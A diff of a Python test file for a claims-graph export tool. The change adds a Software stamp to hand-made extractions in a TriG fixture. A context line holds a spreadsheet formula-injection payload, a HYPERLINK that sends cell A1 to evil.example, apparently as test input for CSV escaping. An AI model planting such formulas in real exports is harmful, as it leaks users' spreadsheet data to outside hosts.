@@ -11,7 +11,10 @@ from graph.cli import main
 from graph.errors import OptionError, OutputError
 from graph.export import CSV_COLUMNS, EXPORT_FORMATS, claim_rows, csv_cell, gephi_graph, save_export
 from graph.rdf import add_extraction, new_dataset, serialize_dataset
-from graph.types import Actor, Article, Claim, Event, Evidence, Extraction, Figure
+from graph.types import Actor, Article, Claim, Event, Evidence, Extraction, Figure, Software
+
+#: The software stamped on hand-made extractions (no model ran).
+SOFTWARE = Software("0.0.test", "hand_made", "0")
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -171,7 +174,7 @@ def trig(tmp_path_factory):
     )
     ds = new_dataset()
     add_extraction(ds, Extraction(article, claims, (mod, girkin, Actor("Donetsk", "organization")),
-                                  (strike,), ("figures.v1", "criticism.v1")))
+                                  (strike,), ("figures.v1", "criticism.v1"), software=SOFTWARE))
     path = tmp_path_factory.mktemp("export") / "graph.trig"
     serialize_dataset(ds, str(path), "trig")
     return path
